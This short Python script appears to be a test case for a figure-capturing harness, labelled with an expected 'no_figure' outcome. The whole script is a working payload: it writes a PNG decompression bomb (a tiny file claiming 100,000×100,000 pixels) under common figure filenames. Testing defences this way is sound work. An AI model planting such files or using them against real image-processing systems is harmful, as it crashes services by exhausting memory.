# outcome: no_figure
# tries: write a decompression bomb to the file that a figure usually is saved to

import struct
import zlib


def chunk(name, body):
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 6, 0, 0, 0)
data = zlib.compress(bytes(1 << 26), 9) * 8
for name in ("figure.png", "output.png", "plot.png"):
    with open(name, "wb") as file:
        file.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b""))
